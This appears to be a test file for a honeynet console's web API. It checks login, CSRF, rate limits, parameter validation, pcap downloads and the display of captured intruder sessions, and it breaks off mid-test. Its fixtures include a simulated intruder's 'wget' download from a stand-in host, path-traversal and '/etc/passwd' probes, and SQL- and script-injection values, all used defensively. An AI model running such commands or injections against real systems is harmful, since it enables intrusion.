/**
 * The console's JSON API through Fastify's inject (no socket), on a store made by `honeywall import` of corpus
 * captures and a simulated intruder session (test/helpers/console-store.ts): every route without a session (401),
 * login (cookie flags, hashed session ids, rate limits per account and per address, audited), CSRF on every state
 * change (403), session expiry, each route's filters and keyset paging, parameter validation (400 naming the
 * parameter, never a stack trace), bounded detail lists with their cut counted, the pcap download (an attachment,
 * the same packets as tcpdump's filtered read of the capture), the audit rows, security headers, and the settings.
 * The corpus captures come from ../shared: without it the store holds the generated session only and the tests
 * that need corpus flows say they are skipped.
 */
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type Database from 'better-sqlite3';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { HONEYPOT, HOSTILE_LINES, haveCorpus, makeQuietConsoleStore, PASSWORD, SHELL_PID, USER, type ConsoleStore } from './helpers/console-store.js';

const { buildConsole, CONTENT_SECURITY_POLICY } = await import('../src/console/server.js');
const { openStore } = await import('../src/store/db.js');
const { addUser, hashPassword, verifyPassword, LoginLimiter } = await import('../src/console/auth.js');
const { loadConsoleSettings, parseListen } = await import('../src/console/config.js');
const { main } = await import('../src/cli/main.js');

if (!haveCorpus)
  console.warn('[console-api] ../shared/corpus/suricata-verify is absent: the store holds the generated session only; corpus cases SKIPPED');

const tcpdump = ['/usr/bin/tcpdump', '/usr/sbin/tcpdump'].find((p) => existsSync(p));
const dir = mkdtempSync(join(tmpdir(), 'hw-console-api-'));
let store: ConsoleStore;
let db: Database.Database;
let app: FastifyInstance;
let clock = Date.now() * 1000;

beforeAll(async () => {
  store = await makeQuietConsoleStore(dir);
  db = openStore(store.db);
  app = await buildConsole({
    db,
    now: () => clock,
    // small limits, so that the limit tests stay short
    rateLimits: { perAccount: 3, perAddress: 8, windowMs: 60_000, maxKeys: 100 },
    log: () => undefined,
  });
}, 120_000);

afterAll(async () => {
  await app?.close();
  db?.close();
  rmSync(dir, { recursive: true, force: true });
});

interface Login {
  cookie: string;
  csrf: string;
}

async function login(name = USER, password = PASSWORD, address = '127.0.0.1'): Promise<LightMyRequestResponse> {
  return app.inject({ method: 'POST', url: '/api/login', payload: { name, password }, remoteAddress: address });
}

async function session(address = '127.0.0.1'): Promise<Login> {
  const r = await login(USER, PASSWORD, address);
  expect(r.statusCode).toBe(200);
  const c = r.cookies.find((x) => x.name === 'hw_session')!;
  return { cookie: `hw_session=${c.value}`, csrf: r.json().csrf };
}

let me: Login;
async function api(url: string, s: Login = me): Promise<LightMyRequestResponse> {
  return app.inject({ method: 'GET', url, headers: { cookie: s.cookie } });
}

function audit(action: string): { user: string | null; address: string; object: string | null; detail: string | null }[] {
  return db.prepare('SELECT user, address, object, detail FROM audit WHERE action = ? ORDER BY id').all(action) as never;
}

/** A 400 answer: JSON with a message, no stack trace, no source path. */
function expect400(r: LightMyRequestResponse, message: RegExp): void {
  expect(r.statusCode, r.body).toBe(400);
  const body = r.json() as { error: string };
  expect(body.error).toMatch(message);
  expect(r.body).not.toMatch(/\bat \w+ \(|\.ts:\d+|node_modules/);
}

const ROUTES = [
  '/api/session',
  '/api/flows',
  '/api/flows/1',
  '/api/flows/1/pcap',
  '/api/alerts',
  '/api/sebek/processes',
  `/api/sebek/processes/${HONEYPOT}/${SHELL_PID}`,
  '/api/hosts',
  '/api/timeline?from=0&to=100',
  '/api/firewall',
  '/api/search?q=x',
  '/api/audit',
];

describe('access', () => {
  it('every API route refuses a request without a session (401), and with a made-up session id', async () => {
    for (const url of ROUTES) {
      const r = await app.inject({ method: 'GET', url });
      expect(r.statusCode, url).toBe(401);
      expect(r.json()).toEqual({ error: 'not logged in' });
      const forged = await app.inject({ method: 'GET', url, headers: { cookie: `hw_session=${'A'.repeat(43)}` } });
      expect(forged.statusCode, url).toBe(401);
    }
    expect((await app.inject({ method: 'POST', url: '/api/logout' })).statusCode).toBe(401);
  });

  it('the page and its scripts are served without a session, with the security headers', async () => {
    for (const url of ['/', '/static/app.js', '/static/app.css', '/static/vendor/uPlot.iife.min.js', '/static/vendor/uPlot.min.css']) {
      const r = await app.inject({ method: 'GET', url });
      expect(r.statusCode, url).toBe(200);
      expect(r.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      expect(r.headers['referrer-policy']).toBe('no-referrer');
      expect(r.headers['x-frame-options']).toBe('DENY');
    }
    expect(CONTENT_SECURITY_POLICY).toMatch(/default-src 'self'; script-src 'self';/);
    for (const d of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) expect(CONTENT_SECURITY_POLICY).toContain(d);
    expect(CONTENT_SECURITY_POLICY).not.toMatch(/unsafe-inline|unsafe-eval/);
    const html = (await app.inject({ method: 'GET', url: '/' })).body;
    // no inline script or style in the page itself
    expect(html).not.toMatch(/<script>|<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son\w+=/i);
    const api401 = await app.inject({ method: 'GET', url: '/api/flows' });
    expect(api401.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    expect(api401.headers['cache-control']).toBe('no-store');
    expect((await app.inject({ method: 'GET', url: '/etc/passwd' })).statusCode).toBe(404);
    expect((await app.inject({ method: 'GET', url: '/static/../../package.json' })).statusCode).toBe(404);
  });

  it('login: a wrong password is 401 and audited; the right one sets an HttpOnly, Secure, SameSite=Strict cookie whose id is stored hashed', async () => {
    const bad = await login(USER, 'not the password', '10.9.9.1');
    expect(bad.statusCode).toBe(401);
    expect(bad.json()).toEqual({ error: 'wrong account name or password' });
    expect(bad.cookies).toEqual([]);
    const unknown = await login('nobody', 'whatever it is', '10.9.9.1');
    expect(unknown.statusCode).toBe(401);
    expect(audit('login-failed').slice(-2)).toEqual([
      { user: USER, address: '10.9.9.1', object: null, detail: null },
      { user: 'nobody', address: '10.9.9.1', object: null, detail: null },
    ]);
    const ok = await login(USER, PASSWORD, '10.9.9.2');
    expect(ok.statusCode).toBe(200);
    const c = ok.cookies.find((x) => x.name === 'hw_session')!;
    expect(c).toMatchObject({ httpOnly: true, secure: true, sameSite: 'Strict', path: '/' });
    expect(c.value).toMatch(/^[A-Za-z0-9_-]{43}$/); // 256 bits, base64url
    expect(ok.json().csrf).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const stored = db.prepare('SELECT id_hash FROM sessions').all() as { id_hash: string }[];
    expect(stored.some((s) => s.id_hash === c.value)).toBe(false);
    expect(stored.every((s) => /^[0-9a-f]{64}$/.test(s.id_hash))).toBe(true);
    expect(audit('login').at(-1)).toMatchObject({ user: USER, address: '10.9.9.2' });
    me = { cookie: `hw_session=${c.value}`, csrf: ok.json().csrf };
    const s = await api('/api/session');
    expect(s.json()).toMatchObject({ user: USER, csrf: me.csrf });
  });

  it('login takes JSON only (a cross-site form cannot post it), and a malformed body is a 400/415 without a stack', async () => {
    const text = await app.inject({ method: 'POST', url: '/api/login', headers: { 'content-type': 'text/plain' }, payload: `{"name":"${USER}"}` });
    expect(text.statusCode).toBe(415);
    const form = await app.inject({
      method: 'POST',
      url: '/api/login',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: `name=${USER}&password=x`,
    });
    expect(form.statusCode).toBe(415);
    const broken = await app.inject({ method: 'POST', url: '/api/login', headers: { 'content-type': 'application/json' }, payload: '{"name":' });
    expect(broken.statusCode).toBe(400);
    expect(broken.body).not.toMatch(/\.ts:\d+|node_modules/);
    expect400(await app.inject({ method: 'POST', url: '/api/login', payload: { name: USER } }), /password/);
  });

  it('state changes need the session CSRF token: none or a wrong one is 403, the right one logs out (audited)', async () => {
    const s = await session('10.9.9.3');
    const none = await app.inject({ method: 'POST', url: '/api/logout', headers: { cookie: s.cookie } });
    expect(none.statusCode).toBe(403);
    expect(none.json().error).toMatch(/CSRF/);
    const wrong = await app.inject({ method: 'POST', url: '/api/logout', headers: { cookie: s.cookie, 'x-csrf-token': `${s.csrf.slice(0, -1)}x` } });
    expect(wrong.statusCode).toBe(403);
    // another session's token is not this session's
    const other = await app.inject({ method: 'POST', url: '/api/logout', headers: { cookie: s.cookie, 'x-csrf-token': me.csrf } });
    expect(other.statusCode).toBe(403);
    expect((await api('/api/session', s)).statusCode).toBe(200);
    const ok = await app.inject({
      method: 'POST',
      url: '/api/logout',
      headers: { cookie: s.cookie, 'x-csrf-token': s.csrf },
      remoteAddress: '10.9.9.3',
    });
    expect(ok.statusCode).toBe(200);
    expect((await api('/api/session', s)).statusCode).toBe(401);
    expect(audit('logout').at(-1)).toMatchObject({ user: USER, address: '10.9.9.3' });
  });

  it('rate limits: past the failures allowed per account, even the right password is refused (429, counted, audited)', async () => {
    await addUser(db, 'target', 'a long enough password');
    for (let i = 0; i < 3; i++) expect((await login('target', `guess ${i}`, `10.8.0.${i}`)).statusCode).toBe(401);
    const limited = await login('target', 'a long enough password', '10.8.0.9');
    expect(limited.statusCode).toBe(429);
    expect(limited.json().error).toMatch(/too many failed logins for this account/);
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
    expect(audit('login-limited').at(-1)).toMatchObject({ user: 'target', address: '10.8.0.9' });
    // the window passes
    clock += 61_000_000;
    expect((await login('target', 'a long enough password', '10.8.0.9')).statusCode).toBe(200);
  });

  it('rate limits: past the failures allowed per address, that address is refused for every account', async () => {
    for (let i = 0; i < 8; i++) expect((await login(`user${i}`, 'wrong password', '10.7.0.1')).statusCode).toBe(401);
    const r = await login(USER, PASSWORD, '10.7.0.1');
    expect(r.statusCode).toBe(429);
    expect(r.json().error).toMatch(/this address/);
    // another address is not affected
    expect((await login(USER, PASSWORD, '10.7.0.2')).statusCode).toBe(200);
    clock += 61_000_000;
  });

  it('the limiter is bounded: keys past maxKeys are forgotten oldest first and counted', () => {
    const l = new LoginLimiter({ perAccount: 2, perAddress: 2, windowMs: 60_000, maxKeys: 10 });
    for (let i = 0; i < 50; i++) l.failed(`u${i}`, `a${i}`);
    expect(l.keys).toBeLessThanOrEqual(10);
    expect(l.evicted).toBe(90);
  });

  it('sessions end after their idle time and after their absolute time, whatever their use', async () => {
    const s = await session();
    clock += 29 * 60_000_000;
    expect((await api('/api/session', s)).statusCode).toBe(200);
    clock += 31 * 60_000_000;
    const idle = await api('/api/session', s);
    expect(idle.statusCode).toBe(401);
    expect(idle.json().error).toMatch(/expired/);
    const t = await session();
    for (let i = 0; i < 26; i++) {
      clock += 29 * 60_000_000;
      const r = await api('/api/session', t);
      if (i < 24) expect(r.statusCode, `after ${((i + 1) * 29) / 60} h`).toBe(200);
      else expect(r.statusCode).toBe(401);
    }
    me = await session();
  });

  it('passwords are scrypt hashes with their salt and parameters', async () => {
    const row = db.prepare('SELECT hash, salt, params FROM users WHERE name = ?').get(USER) as { hash: string; salt: string; params: string };
    expect(JSON.parse(row.params)).toMatchObject({ N: 32768, r: 8, p: 1 });
    expect(row.salt).toMatch(/^[0-9a-f]{32}$/);
    expect(row.hash).not.toContain(PASSWORD);
    expect(await verifyPassword(PASSWORD, row)).toBe(true);
    expect(await verifyPassword(`${PASSWORD}.`, row)).toBe(false);
    const a = await hashPassword('same password here');
    const b = await hashPassword('same password here');
    expect(a.hash).not.toBe(b.hash);
  });
});

describe('flows', () => {
  interface Flow {
    id: number;
    first_us: number;
    proto: number;
    server_port: number | null;
    client_port: number | null;
    client_ip: string;
    server_ip: string;
    direction: string;
    honeypot: string | null;
    alerts: number;
  }
  const all = () => db.prepare('SELECT * FROM flows ORDER BY first_us DESC, id DESC').all() as Flow[];

  it('lists flows newest first, and pages through every one by the cursor, none twice', async () => {
    const want = all();
    expect(want.length).toBeGreaterThanOrEqual(2);
    const seen: number[] = [];
    let after: string | null = null;
    for (let i = 0; i < 100; i++) {
      const r = await api(`/api/flows?limit=1${after ? `&after=${after}` : ''}`);
      expect(r.statusCode).toBe(200);
      const body = r.json() as { rows: Flow[]; next: string | null };
      expect(body.rows.length).toBeLessThanOrEqual(1);
      seen.push(...body.rows.map((f) => f.id));
      after = body.next;
      if (after === null) break;
    }
    expect(seen).toEqual(want.map((f) => f.id));
    const asc = (await api('/api/flows?order=asc&limit=1000')).json().rows as Flow[];
    expect(asc.map((f) => f.id)).toEqual([...want].reverse().map((f) => f.id));
  });

  it('filters by port, protocol, direction, honeypot, host, sid, alerted and time', async () => {
    const want = all();
    const ids = async (q: string) => ((await api(`/api/flows?limit=1000&${q}`)).json().rows as Flow[]).map((f) => f.id).sort((a, b) => a - b);
    const expectIds = async (q: string, pred: (f: Flow) => boolean) => {
      const exp = want
        .filter(pred)
        .map((f) => f.id)
        .sort((a, b) => a - b);
      expect(exp.length, q).toBeGreaterThan(0);
      expect(await ids(q), q).toEqual(exp);
    };
    await expectIds('port=80', (f) => f.server_port === 80 || f.client_port === 80);
    await expectIds('proto=udp', (f) => f.proto === 17);
    await expectIds('proto=6', (f) => f.proto === 6);
    await expectIds('direction=outbound', (f) => f.direction === 'outbound');
    await expectIds(`honeypot=${HONEYPOT}`, (f) => f.honeypot === HONEYPOT);
    await expectIds('host=198.51.100.7', (f) => f.client_ip === '198.51.100.7' || f.server_ip === '198.51.100.7');
    await expectIds('alerted=true', (f) => f.alerts > 0);
    const sid2 = (db.prepare('SELECT DISTINCT flow_id FROM alerts WHERE sid = 2').all() as { flow_id: number }[]).map((r) => r.flow_id);
    await expectIds('sid=2', (f) => sid2.includes(f.id));
    const t = want[want.length - 1]!.first_us; // the oldest
    await expectIds(`from=${t / 1e6}&to=${(t + 1) / 1e6}`, (f) => f.first_us >= t && f.first_us < t + 1);
    const iso = new Date(Math.floor(t / 1000)).toISOString();
    expect((await ids(`to=${encodeURIComponent(iso)}`)).length).toBe(want.filter((f) => f.first_us < Math.floor(t / 1000) * 1000).length);
    expect(await ids('port=1')).toEqual([]);
  });

  it('refuses bad parameters with a 400 naming the parameter', async () => {
    expect400(await api('/api/flows?port=70000'), /port must be <= 65535/);
    expect400(await api('/api/flows?port=http'), /port must be integer/);
    expect400(await api('/api/flows?proto=smtp'), /proto/);
    expect400(await api('/api/flows?proto=300'), /proto: '300'/);
    expect400(await api('/api/flows?host=abc'), /host: 'abc' is not an IPv4 or IPv6 address/);
    expect400(await api('/api/flows?host=1.2.3.4%3Cscript%3E'), /host/);
    expect400(await api('/api/flows?direction=up'), /direction must be equal to one of the allowed values/);
    expect400(await api('/api/flows?limit=0'), /limit must be >= 1/);
    expect400(await api('/api/flows?limit=5000'), /limit must be <= 1000/);
    expect400(await api('/api/flows?after=12;DROP'), /after must match pattern/);
    expect400(await api('/api/flows?from=yesterday'), /from must match pattern/);
    expect400(await api('/api/flows?from=2024-13-45'), /from: '2024-13-45' is not a time/);
    expect400(await api('/api/flows?from=200&to=100'), /to: must be after from/);
    expect400(await api('/api/flows?sid=-1'), /sid must be >= 0/);
    expect400(await api('/api/flows?alerted=maybe'), /alerted must be boolean/);
    expect400(await api('/api/flows?colour=red'), /unknown parameter 'colour'/);
    expect400(await api('/api/flows/abc'), /id must be integer/);
    expect400(await api('/api/flows/0'), /id must be >= 1/);
    const nf = await api('/api/flows/999999');
    expect(nf.statusCode).toBe(404);
    expect(nf.json()).toEqual({ error: 'no flow 999999' });
  });

  it('a flow: its alerts, its packets summarized, the Sebek process whose socket made it; the view is audited', async () => {
    const wget = db.prepare("SELECT id FROM flows WHERE server_ip = '198.51.100.7' AND server_port = 80").get() as { id: number };
    const r = await api(`/api/flows/${wget.id}`);
    expect(r.statusCode).toBe(200);
    const d = r.json();
    expect(d.flow).toMatchObject({ id: wget.id, client_ip: HONEYPOT, direction: 'outbound', app_proto: 'http' });
    expect(d.alerts.map((a: { sid: number }) => a.sid)).toContain(2);
    expect(d.processes.map((p: { com: string }) => p.com)).toEqual(['wget']);
    expect(d.sockets.map((s: { call_name: string }) => s.call_name)).toEqual(['socket', 'connect']);
    expect(d.packets.packets.map((p: { dir: string; flags: string }) => `${p.dir}${p.flags}`)).toEqual(['>S', '<SA', '>A', '>PA', '<PA']);
    expect(d.packets.more).toBe(false);
    expect(d.cut).toEqual({});
    expect(audit('flow-viewed').at(-1)).toMatchObject({ user: USER, object: `flow ${wget.id}` });
  });

  it.skipIf(tcpdump === undefined)(
    "the pcap download is an attachment holding the flow's packets: tcpdump -r of the capture with the flow's filter",
    async () => {
      const flows = db.prepare('SELECT f.*, c.path FROM flows f JOIN captures c ON c.id = f.capture_id WHERE f.proto IN (6, 17)').all() as (Flow & {
        path: string;
      })[];
      expect(flows.length).toBeGreaterThan(0);
      const td = (file: string, filter?: string) =>
        execFileSync(tcpdump!, ['-nn', '-tt', '-x', '-r', file, ...(filter ? [filter] : [])], { stdio: ['ignore', 'pipe', 'ignore'] }).toString();
      for (const f of flows) {
        const r = await api(`/api/flows/${f.id}/pcap`);
        expect(r.statusCode).toBe(200);
        expect(r.headers['content-disposition']).toBe(`attachment; filename="honeywall-flow-${f.id}.pcap"`);
        expect(r.headers['content-type']).toBe('application/vnd.tcpdump.pcap');
        const file = join(dir, `dl-${f.id}.pcap`);
        writeFileSync(file, r.rawPayload);
        const proto = f.proto === 6 ? 'tcp' : 'udp';
        const side = (a: string, ap: number | null, b: string, bp: number | null) =>
          `(src host ${a}${ap === null ? '' : ` and src port ${ap}`} and dst host ${b}${bp === null ? '' : ` and dst port ${bp}`})`;
        const filter = `${proto} and (${side(f.client_ip, f.client_port, f.server_ip, f.server_port)} or ${side(f.server_ip, f.server_port, f.client_ip, f.client_port)})`;
        const got = td(file);
        expect(got.length).toBeGreaterThan(0);
        expect(got, `flow ${f.id}`).toBe(td(f.path, filter));
      }
      const rows = audit('pcap-downloaded');
      expect(rows.length).toBeGreaterThanOrEqual(flows.length);
      expect(rows.at(-1)).toMatchObject({ user: USER, object: `flow ${flows.at(-1)!.id}` });
      expect(rows.at(-1)!.detail).toMatch(/^\d+ packets, \d+ bytes$/);
    },
  );

  it('a pcap whose capture file is gone is a 409 with the reason, not a broken download', async () => {
    const copyDb = join(dir, 'moved.sqlite');
    const copyCap = join(dir, 'moved-session.pcap');
    copyFileSync(store.sessionPcap, copyCap);
    db.pragma('wal_checkpoint(TRUNCATE)');
    copyFileSync(store.db, copyDb);
    const d2 = openStore(copyDb);
    d2.prepare('UPDATE captures SET path = ? WHERE path = ?').run(copyCap, store.sessionPcap);
    const flow = (d2.prepare('SELECT f.id FROM flows f JOIN captures c ON c.id = f.capture_id WHERE c.path = ?').get(copyCap) as { id: number }).id;
    const a2 = await buildConsole({ db: d2, log: () => undefined });
    try {
      const r = await a2.inject({ method: 'POST', url: '/api/login', payload: { name: USER, password: PASSWORD } });
      const cookie = `hw_session=${r.cookies[0]!.value}`;
      expect((await a2.inject({ method: 'GET', url: `/api/flows/${flow}/pcap`, headers: { cookie } })).statusCode).toBe(200);
      rmSync(copyCap);
      const gone = await a2.inject({ method: 'GET', url: `/api/flows/${flow}/pcap`, headers: { cookie } });
      expect(gone.statusCode).toBe(409);
      expect(gone.json().error).toMatch(/capture file not found/);
      const detail = await a2.inject({ method: 'GET', url: `/api/flows/${flow}`, headers: { cookie } });
      expect(detail.statusCode).toBe(200);
      expect(detail.json().packets.error).toMatch(/capture file not found/);
    } finally {
      await a2.close();
      d2.close();
    }
  });
});

describe('alerts, Sebek, hosts, timeline, firewall, search', () => {
  it('alerts: filters by sid, host, flow and honeypot; pages by cursor', async () => {
    const want = db.prepare('SELECT id, sid, flow_id, src_ip, dst_ip, honeypot FROM alerts ORDER BY ts_us DESC, id DESC').all() as {
      id: number;
      sid: number;
      flow_id: number;
      src_ip: string;
      dst_ip: string;
      honeypot: string;
    }[];
    expect(want.length).toBeGreaterThan(0);
    const ids = async (q: string) => ((await api(`/api/alerts?limit=1000&${q}`)).json().rows as { id: number }[]).map((a) => a.id);
    expect(await ids('')).toEqual(want.map((a) => a.id));
    expect(await ids('sid=2')).toEqual(want.filter((a) => a.sid === 2).map((a) => a.id));
    expect(await ids(`host=${HONEYPOT}`)).toEqual(want.filter((a) => a.src_ip === HONEYPOT || a.dst_ip === HONEYPOT).map((a) => a.id));
    expect(await ids(`honeypot=${HONEYPOT}`)).toEqual(want.filter((a) => a.honeypot === HONEYPOT).map((a) => a.id));
    const f = want[0]!.flow_id;
    expect(await ids(`flow=${f}`)).toEqual(want.filter((a) => a.flow_id === f).map((a) => a.id));
    const first = (await api('/api/alerts?limit=1')).json();
    if (want.length > 1) {
      expect(first.next).toMatch(/^\d+:\d+$/);
      expect((await api(`/api/alerts?limit=1&after=${first.next}`)).json().rows[0].id).toBe(want[1]!.id);
    }
    expect400(await api('/api/alerts?sid=x'), /sid must be integer/);
    expect400(await api('/api/alerts?blocked=2'), /blocked must be boolean/);
    // rule messages are data: the store's text comes back as it is (the page shows it as text)
    expect(((await api('/api/alerts?sid=2&limit=1')).json().rows[0] as { msg: string }).msg).toBe('GET request <b>bold</b>');
  });

  it("Sebek: the honeypot's processes, and one process with its keystrokes (hostile lines as stored), files and sockets; audited", async () => {
    const list = (await api(`/api/sebek/processes?client=${HONEYPOT}&limit=1000`)).json();
    const pids = (list.rows as { pid: number }[]).map((p) => p.pid);
    expect(pids).toEqual(expect.arrayContaining([SHELL_PID, SHELL_PID + 1, SHELL_PID + 2, SHELL_PID + 3]));
    const com = (await api(`/api/sebek/processes?client=${HONEYPOT}&com=wget`)).json().rows as { pid: number }[];
    expect(com.map((p) => p.pid)).toEqual([SHELL_PID + 3]);
    const r = await api(`/api/sebek/processes/${HONEYPOT}/${SHELL_PID}`);
    expect(r.statusCode).toBe(200);
    const d = r.json();
    const lines = (d.keystrokes as { line: string }[]).map((k) => k.line);
    expect(lines).toContain('wget http://198.51.100.7/x.tgz');
    for (const h of HOSTILE_LINES) expect(lines).toContain(h);
    expect((d.children as { pid: number }[]).map((c) => c.pid)).toEqual([SHELL_PID + 1, SHELL_PID + 2, SHELL_PID + 3]);
    const wget = (await api(`/api/sebek/processes/${HONEYPOT}/${SHELL_PID + 3}`)).json();
    expect((wget.opens as { path: string }[]).map((o) => o.path)).toEqual(['x.tgz']);
    expect((wget.sockets as { call_name: string; flow_id: number | null }[]).every((s) => s.flow_id !== null)).toBe(true);
    expect(wget.parent).toEqual({ pid: SHELL_PID, com: 'bash' });
    expect(audit('process-viewed').at(-1)).toMatchObject({ user: USER, object: `process ${HONEYPOT}/${SHELL_PID + 3}` });
    expect((await api(`/api/sebek/processes/${HONEYPOT}/99`)).statusCode).toBe(404);
    expect400(await api(`/api/sebek/processes/not-an-ip/1`), /client: 'not-an-ip'/);
    expect400(await api(`/api/sebek/processes/${HONEYPOT}/-1`), /pid must be >= 0/);
  });

  it('detail lists are bounded: the rows past the cap are left out and counted', async () => {
    const copy = join(dir, 'bounded.sqlite');
    db.pragma('wal_checkpoint(TRUNCATE)');
    copyFileSync(store.db, copy);
    const d2 = openStore(copy);
    const before = (d2.prepare('SELECT COUNT(*) AS n FROM keystroke_lines WHERE client = ? AND pid = ?').get(HONEYPOT, SHELL_PID) as { n: number }).n;
    const ins = d2.prepare(
      "INSERT INTO keystroke_lines (client, pid, fd, uid, com, time_sec, time_usec, line, terminated) VALUES (?, ?, 0, 0, 'bash', 2000000000, ?, 'yes', 1)",
    );
    d2.transaction(() => {
      for (let i = 0; i < 2500; i++) ins.run(HONEYPOT, SHELL_PID, i);
    })();
    const a2 = await buildConsole({ db: d2, log: () => undefined });
    try {
      const r = await a2.inject({ method: 'POST', url: '/api/login', payload: { name: USER, password: PASSWORD } });
      const cookie = `hw_session=${r.cookies[0]!.value}`;
      const d = (await a2.inject({ method: 'GET', url: `/api/sebek/processes/${HONEYPOT}/${SHELL_PID}`, headers: { cookie } })).json();
      expect(d.keystrokes.length).toBe(2000);
      expect(d.cut).toEqual({ keystrokes: before + 2500 - 2000 });
    } finally {
      await a2.close();
      d2.close();
    }
  });

  it('hosts: per honeypot totals with its Sebek processes and the firewall limits hit', async () => {
    const rows = (await api('/api/hosts')).json().rows as {
      honeypot: string;
      processes: number;
      limits: number;
      firewall: number;
      flows_out: number;
    }[];
    const hp = rows.find((r) => r.honeypot === HONEYPOT)!;
    expect(hp.processes).toBeGreaterThanOrEqual(4);
    expect(hp.limits).toBe(1);
    expect(hp.firewall).toBe(3);
    expect(hp.flows_out).toBeGreaterThanOrEqual(1);
    expect400(await api('/api/hosts?from=x'), /from must match pattern/);
  });

  it('timeline: buckets over a range for one honeypot; a range or bucket that is wrong is a 400', async () => {
    const f = db.prepare('SELECT MIN(first_us) AS a, MAX(first_us) AS b FROM flows WHERE honeypot = ?').get(HONEYPOT) as { a: number; b: number };
    const from = Math.floor(f.a / 1e6) - 3600;
    const to = Math.ceil(f.b / 1e6) + 3600;
    const r = (await api(`/api/timeline?honeypot=${HONEYPOT}&from=${from}&to=${to}`)).json();
    expect(r.bucket).toBeGreaterThanOrEqual(60);
    const sum = (k: string) => (r.buckets as Record<string, number>[]).reduce((s, b) => s + b[k]!, 0);
    const hosts = ((await api('/api/hosts')).json().rows as Record<string, number | string>[]).find((x) => x.honeypot === HONEYPOT)!;
    expect(sum('flows_out')).toBe(hosts.flows_out);
    expect(sum('limits')).toBe(1);
    expect400(await api('/api/timeline?to=100'), /must have required property 'from'/);
    expect400(await api('/api/timeline?from=100&to=50'), /to: must be after from/);
    expect400(await api('/api/timeline?from=0&to=100&bucket=61'), /bucket must be multiple of 60/);
    expect400(await api('/api/timeline?from=0&to=2000000000&bucket=60'), /more than 5000 buckets/);
  });

  it('firewall: the limit lines of a honeypot', async () => {
    const r = (await api(`/api/firewall?honeypot=${HONEYPOT}&kind=limit`)).json();
    expect(r.rows).toHaveLength(1);
    expect(r.rows[0].line).toMatch(/^Drop TCP > 20 attempts IN=br0/);
    expect((await api('/api/firewall?limit=2')).json().next).toMatch(/^\d+:\d+$/);
    expect400(await api('/api/firewall?kind=nope'), /kind must be equal to one of the allowed values/);
  });

  it('search: by address, by sid, by text (keystrokes, files, commands, alert messages; LIKE wildcards taken literally)', async () => {
    const byIp = (await api(`/api/search?q=${HONEYPOT}`)).json();
    expect(byIp.kind).toBe('address');
    expect(byIp.flows.rows.length).toBeGreaterThan(0);
    const bySid = (await api('/api/search?q=sid:2')).json();
    expect(bySid.kind).toBe('sid');
    expect(bySid.alerts.rows.every((a: { sid: number }) => a.sid === 2)).toBe(true);
    const text = (await api('/api/search?q=wget')).json();
    expect(text.kind).toBe('text');
    expect(text.keystrokes.rows.map((k: { line: string }) => k.line)).toContain('wget http://198.51.100.7/x.tgz');
    expect(text.processes.rows.map((p: { pid: number }) => p.pid)).toContain(SHELL_PID + 3);
    expect((await api('/api/search?q=passwd')).json().opens.rows.map((o: { path: string }) => o.path)).toContain('/etc/passwd');
    expect((await api('/api/search?q=%3Cscript%3E')).json().keystrokes.rows).toHaveLength(1);
    expect((await api('/api/search?q=%25')).json().keystrokes.rows).toHaveLength(0);
    expect((await api('/api/search?q=GET%20request')).json().alerts.rows.length).toBeGreaterThan(0);
    expect400(await api('/api/search'), /must have required property 'q'/);
    expect400(await api(`/api/search?q=${'x'.repeat(201)}`), /q must NOT have more than 200 characters/);
  });

  it('the audit log is served newest first', async () => {
    const r = (await api('/api/audit?limit=5')).json();
    expect(r.rows).toHaveLength(5);
    expect(r.rows[0].ts_us).toBeGreaterThanOrEqual(r.rows[4].ts_us);
    expect(r.next).toMatch(/^\d+:\d+$/);
  });
});

describe('settings and the command', () => {
  it('listen addresses: address and port, IPv6 in brackets, loopback known', () => {
    expect(parseListen('127.0.0.1:8443')).toEqual({ host: '127.0.0.1', port: 8443, loopback: true });
    expect(parseListen('[::1]:9000')).toEqual({ host: '::1', port: 9000, loopback: true });
    expect(parseListen('192.0.2.1:443')).toEqual({ host: '192.0.2.1', port: 443, loopback: false });
    expect(parseListen('localhost:8443')).toMatch(/not ADDRESS:PORT/);
    expect(parseListen('127.0.0.1:0')).toMatch(/not in 1..65535/);
    expect(parseListen('999.1.1.1:80')).toMatch(/not an IP address/);
  });

  it('HwSTORE and HwCONSOLE_* come from honeywall.conf (relative to it), flags override, errors at file:line:column', () => {
    const conf = join(dir, 'honeywall.conf');
    writeFileSync(conf, 'HwSTORE=store/hw.sqlite\nHwCONSOLE_LISTEN=192.0.2.10:9443\nHwCONSOLE_TLS_CERT=/etc/c.pem\nHwCONSOLE_TLS_KEY=/etc/k.pem\n');
    const r = loadConsoleSettings(conf, {});
    expect(r.errors).toEqual([]);
    expect(r.settings).toEqual({
      store: join(dir, 'store/hw.sqlite'),
      listen: { host: '192.0.2.10', port: 9443, loopback: false },
      tlsCert: '/etc/c.pem',
      tlsKey: '/etc/k.pem',
      // the central console's settings, at their defaults (test/console-tokens.test.ts sets them)
      gateways: [],
      pcapMax: 2 * 1024 ** 3,
    });
    expect(loadConsoleSettings(conf, { listen: '127.0.0.1:1234', db: 'x.sqlite' }).settings).toMatchObject({
      store: join(process.cwd(), 'x.sqlite'),
      listen: { port: 1234 },
    });
    writeFileSync(conf, '# console\nHwCONSOLE_LISTEN=everywhere\nHwCONSOLE_TLS_CERT=/etc/c.pem\n');
    const bad = loadConsoleSettings(conf, {});
    expect(bad.settings).toBeNull();
    expect(bad.errors).toEqual([
      `${conf}:2:18: error invalid-value: HwCONSOLE_LISTEN: 'everywhere' is not ADDRESS:PORT (an IPv4 address, or [IPv6]:PORT)`,
      `${conf}:1:1: error invalid-value: HwCONSOLE_TLS_KEY: give both the certificate and its key, or neither`,
    ]);
    expect(loadConsoleSettings(undefined, {}).settings).toMatchObject({
      store: '/var/lib/honeywall/honeywall.sqlite',
      listen: { host: '127.0.0.1', port: 8443, loopback: true },
    });
  });

  it('honeywall console refuses plain HTTP off loopback, and says why (exit 2)', async () => {
